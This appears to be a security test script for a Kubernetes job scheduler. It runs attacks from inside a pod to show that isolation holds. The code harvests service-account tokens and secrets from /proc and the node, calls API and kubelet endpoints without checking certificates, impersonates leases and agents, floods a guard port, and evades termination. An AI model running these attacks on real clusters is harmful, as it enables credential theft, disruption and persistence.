"""Attacks of a hostile job from within its pod. Standard library only, and reports all.

``pod_loot.py TARGETS LOOT``, as ``loot.py`` beside it; it uses that file's attacks on a machine.
The tests run it twice: as a job, and in a pod of the cluster's administrator that may do
everything, which shows that each attack would be seen if it got through.
"""

# Paths come as texts, and go as such.
# ruff: noqa: PTH104, PTH123, PTH207

import contextlib
import glob
import json
import os
import re
import resource
import select
import signal
import socket
import ssl
import subprocess
import sys
import time
import urllib.error
import urllib.request

from loot import becoming_root, has_token, opening_devices, reading

JWT = r"eyJ[\w-]+\.eyJ[\w-]+\.[\w-]+"
#: A thief does not ask whether a server is the right one.
_ANY_SERVER = ssl._create_unverified_context()
_PATCH = "application/strategic-merge-patch+json"


def asked(url, token="", *, method="GET", body=None, kind="application/json"):
    """Return a server's answer; only a denied access counts as refused."""
    request = urllib.request.Request(
        url,
        method=method,
        data=None if body is None else json.dumps(body).encode(),
        headers={"Content-Type": kind} | ({"Authorization": f"Bearer {token}"} if token else {}),
    )
    try:
        with urllib.request.urlopen(request, timeout=20, context=_ANY_SERVER) as answer:
            return f"{answer.status}: {answer.read(2000)!r}"
    except urllib.error.HTTPError as error:
        return f"{'refused' if error.code in {401, 403} else 'let in'}: {error.code}"
    except OSError as error:
        return f"refused: {error}"


def tokens(told):
    """Return everything that could be a token here, from none to the one given for the tests."""
    found = ["", "lh_invented", os.environ.get("LEASEHOLD_SECRET", ""), *told.get("goods", ())]
    for pattern in ("/var/run/secrets/**", "/run/secrets/**"):
        for path in glob.glob(pattern, include_hidden=True, recursive=True):
            with contextlib.suppress(OSError, UnicodeDecodeError), open(path) as file:
                found += re.findall(JWT, file.read(1 << 16))
    agents = agents_token()
    found += [] if agents.startswith("refused") else [agents]
    return list(dict.fromkeys(found))


def agents_token():
    return has_token("/var/lib/leasehold/**", "/proc/[0-9]*/root/var/lib/leasehold/agent/*.token")


def best(said):
    """Return the first answer that is not a refusal, else a refusal; rather one by a server."""
    refusals = ["refused: nothing was tried"]
    for one in said:
        if not one.startswith("refused"):
            return one
        refusals.append(one)
    return next((one for one in refusals if one in {"refused: 401", "refused: 403"}), refusals[-1])


def api_server(told, path, **more):
    """Ask the API server with every token that is here."""
    host = os.environ.get("KUBERNETES_SERVICE_HOST", "kubernetes.default.svc")
    return best(asked(f"https://{host}:443{path}", token, **more) for token in tokens(told))


def kubelets(told, path, **more):
    """Ask the kubelets of all nodes."""
    addresses = [*told["nodes"].values(), "127.0.0.1"]
    urls = [f"https://{address}:10250{path}" for address in addresses]
    plain = [f"http://{address}:10255{path}" for address in addresses]
    return best(asked(url, token, **more) for token in tokens(told) for url in urls + plain)


def scheduler(told, path, **more):
    """Ask the scheduler with every token that is here."""
    return best(asked(told["server"] + path, token, **more) for token in tokens(told))


def enrolling(told):
    """Ask for a token of each node with credentials that may vouch for its agent."""
    if "goods" in told:  # it would take the place of the node's agent, as that has enrolled before
        return "as the agents enrol themselves"
    bodies = [{"node": node, "secret": one} for node in told["nodes"] for one in tokens(told)]
    url = told["server"] + "/v1/agent/enrol"
    return best(asked(url, method="POST", body=body) for body in bodies if body["secret"])


def lines_of(address, *messages):
    """Send lines to an agent's port for jobs; return its answers."""
    found = []
    with contextlib.suppress(OSError, ValueError), socket.create_connection(address, 10) as way:
        way.settimeout(10)
        with way.makefile("rb") as answers:
            for message in messages:
                way.sendall(json.dumps(message).encode() + b"\n")
                found.append(json.loads(answers.readline(4096)))
    return found


def speaking_for(told):
    """Report steps to agents, and ask for deadlines, in the name of another lease."""
    host, _, port = os.environ.get("LEASEHOLD_ENDPOINT", "tcp://:0")[6:].rpartition(":")
    at = [(host, int(port))] + [(address, 8643) for address in told["agents"]]
    lease, steps = told["lease"], 0 if "goods" in told else 7  # the control changes nothing
    stolen = [part for part in told.get("lease secrets", ()) if part]
    lines = [
        {"secret": secret, "lease_id": lease, "steps_done": steps, "guard": True}
        for secret in (*stolen, "", "x", str(lease), "*", None)
    ]
    taken = [one for address in at for line in lines for one in lines_of(address, line)]
    taken = [answer for answer in taken if "error" not in answer]
    return f"taken: {taken}" if taken else "refused: no secret of a lease here"


def signalling(pids):
    """Reach processes by their numbers on the node; they come to no harm."""
    done, why = [], "nobody is there"
    for pid in pids:
        try:
            os.kill(pid, 0)
            done.append(pid)
        except OSError as error:
            why = error.strerror
    return f"reached {done}" if done else f"refused: {why}"


def reaching(*addresses):
    done, why = [], ""
    for address in addresses:
        try:
            socket.create_connection(address, 5).close()
            done.append(address)
        except OSError as error:
            why = str(error)
    return f"reached {done}" if done else f"refused: {why}"


def mounting():
    """Mount something, here or as root of a user namespace."""
    for command in (["mount", "-t", "tmpfs", "none", "/mnt"], ["unshare", "-Urm", "mount", "-t"]):
        more = [] if command[0] == "mount" else ["tmpfs", "none", "/mnt"]
        ran = subprocess.run(
            [*command, *more], capture_output=True, text=True, check=False, timeout=20
        )
        if ran.returncode == 0:
            return f"mounted by {command[0]}"
    return f"refused: {ran.stderr.strip()}"


def limits():
    """Open for writing what bounds the pod's memory."""
    why = "there is no such file"
    names = ("memory.max", "memory.limit_in_bytes")
    for path in (
        p for name in names for p in glob.glob(f"/sys/fs/cgroup/**/{name}", recursive=True)
    ):
        try:
            os.close(os.open(path, os.O_WRONLY))
        except OSError as error:
            why = error.strerror
        else:
            return f"opened {path}"
    return f"refused: {why}"


def powers():
    """Return the capabilities that the process has or could get, and other limits."""
    with open("/proc/self/status") as file:
        status = dict(line.split(":\t", 1) for line in file.read().splitlines() if ":\t" in line)
    held = {name: int(status[name], 16) for name in ("CapEff", "CapPrm", "CapBnd", "CapAmb")}
    lax = [
        name for name, wanted in (("NoNewPrivs", "1"), ("Seccomp", "2")) if status[name] != wanted
    ]
    return f"has {held}, lacks {lax}" if any(held.values()) or lax else "refused: no capabilities"


def attacks(told):
    """Yield attacks by name. Each returns its loot, or "refused: " and the reason."""
    jobs, prey = told["namespace"], told["pod"]
    pods, mark = f"/api/v1/namespaces/{jobs}/pods", told["mark"]
    core = f"/api/v1/namespaces/{told['release']}"
    yield "account token", lambda: reading("/var/run/secrets/**", "/run/secrets/**", mark="eyJ")
    yield "agent token", agents_token
    yield "pods", lambda: api_server(told, pods)
    yield "secrets", lambda: api_server(told, f"/api/v1/namespaces/{jobs}/secrets")
    yield "secret", lambda: api_server(told, f"/api/v1/namespaces/{jobs}/secrets/{told['secret']}")
    yield "admin secret", lambda: api_server(told, f"{core}/secrets/leasehold-admin")
    exec_path = f"{pods}/{prey}/exec?command=env&stdout=1&container=job"
    yield "exec", lambda: api_server(told, exec_path, method="POST")
    context = {"allowPrivilegeEscalation": False, "capabilities": {"drop": ["ALL"]}}
    spy = {"name": "spy", "image": told["image"], "securityContext": context}
    added = {"spec": {"ephemeralContainers": [spy]}}
    add_path = f"{pods}/{prey}/ephemeralcontainers?dryRun=All"
    yield "ephemeral", lambda: api_server(told, add_path, method="PATCH", body=added, kind=_PATCH)
    delete_path = f"{pods}/{prey}?dryRun=All"
    yield "delete", lambda: api_server(told, delete_path, method="DELETE")
    pod = {"metadata": {"name": "spy"}, "spec": {"containers": [{"name": "a", "image": "b"}]}}
    yield "make", lambda: api_server(told, f"{core}/pods?dryRun=All", method="POST", body=pod)
    mint_path = f"{core}/serviceaccounts/leasehold-agent/token"
    spec = {"apiVersion": "authentication.k8s.io/v1", "kind": "TokenRequest", "spec": {}}
    yield "mint", lambda: api_server(told, mint_path, method="POST", body=spec)
    yield "nodes", lambda: api_server(told, "/api/v1/nodes")
    yield "kubelet", lambda: kubelets(told, "/pods")
    run_path = f"/run/{jobs}/{prey}/job?cmd=env"
    yield "run by kubelet", lambda: kubelets(told, run_path, method="POST")
    yield "admin routes", lambda: scheduler(told, "/v1/tokens")
    yield "jobs", lambda: scheduler(told, f"/v1/jobs/{told['job']}")
    yield "output", lambda: scheduler(told, f"/v1/jobs/{told['job']}/log")
    yield "desired", lambda: scheduler(told, "/v1/agent/desired?term=0&revision=0&wait_s=0")
    report = {"node": "node-1", "incarnation": 1.0, "sequence": 1, "term": 0, "revision": 0}
    report |= {"workers": [{"index": 0, "worker_type": "v100", "problem": ""}] * 9, "leases": 0}
    yield "report", lambda: scheduler(told, "/v1/agent/report", method="POST", body=report)
    yield "enrol", lambda: enrolling(told)
    yield "steps", lambda: speaking_for(told)
    yield "environment", lambda: reading("/proc/[0-9]*/environ", mark=mark)
    yield "password", lambda: reading("/proc/[0-9]*/environ", mark=told["password"])
    yield (
        "files",
        lambda: reading(
            *("/tmp/*", "/var/tmp/*", "/dev/shm/*"),
            *("/proc/[0-9]*/root/tmp/*", "/proc/[0-9]*/root/dev/shm/*"),
            mark=mark,
        ),
    )
    volumes = "/var/lib/kubelet/pods/*/volumes/**"
    yield "node's files", lambda: reading(volumes, mark="BEGIN CERTIFICATE")
    yield "processes", lambda: signalling(told["pids"])
    yield "node's loopback", lambda: reaching(("127.0.0.1", 10248), ("127.0.0.1", 10256))
    yield "devices", lambda: opening_devices(told)
    yield "root", becoming_root
    yield "mounts", mounting
    yield "limits", limits
    yield "powers", powers


def flooding(port=8644, *, seconds=20.0):
    """Keep the guard of the lease busy until it breaks, and answer in its place."""
    _, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    resource.setrlimit(resource.RLIMIT_NOFILE, (min(hard, 8192), hard))
    held, end_s = [], time.monotonic() + seconds
    while time.monotonic() < end_s:
        with contextlib.suppress(OSError):
            while len(held) < 6000:
                held.append(socket.create_connection(("127.0.0.1", port), 1))
                held[-1].sendall(b"GET /lease HTTP/1.1\r\n")
        with contextlib.suppress(OSError):
            socket.create_server(("", port)).close()
            return "the guard's port is free"
        gone, _, _ = select.select(held[:1000], [], [], 0.2)
        for way in gone:
            with contextlib.suppress(OSError):
                if not way.recv(1):
                    held.remove(way)
    return f"refused: the guard stands {len(held)} connections"


def staying():
    """Ignore the end of the lease, and leave a process behind."""
    for number in (signal.SIGTERM, signal.SIGINT, signal.SIGHUP):
        signal.signal(number, signal.SIG_IGN)
    for _ in range(2):
        if os.fork() == 0:
            os.setsid()
            os.environ["CHILD"] = "yes"
    while True:
        time.sleep(1)


if __name__ == "__main__":
    with open(sys.argv[1]) as targets:
        aims = json.load(targets)
    found = {}
    for name, attack in attacks(aims):
        try:
            found[name] = attack()
        except Exception as error:  # noqa: BLE001 - an attack that breaks has shown nothing
            found[name] = f"broken: {error!r}"
        print(name, found[name][:300], flush=True)
    if "LEASEHOLD_ENDPOINT" in os.environ:
        host, _, port = os.environ["LEASEHOLD_ENDPOINT"][6:].rpartition(":")
        mine = {"secret": os.environ["LEASEHOLD_SECRET"], "guard": True}
        found["own"] = lines_of((host, int(port)), mine)
        found["neighbour"] = reaching((aims["address"], 9000))
        found["variables"] = dict(os.environ)
        found["flood"] = flooding()
        found["flood where nobody listens"] = flooding(8645, seconds=5)
    job, node = os.environ.get("LEASEHOLD_JOB_ID", ""), os.environ.get("NODE", "")
    path = f"{sys.argv[2]}-{job or node}"
    with open(f"{path}.half", "w") as loot:
        json.dump(found, loot)
    os.rename(f"{path}.half", f"{path}.json")
    if "LEASEHOLD_ENDPOINT" in os.environ:
        staying()
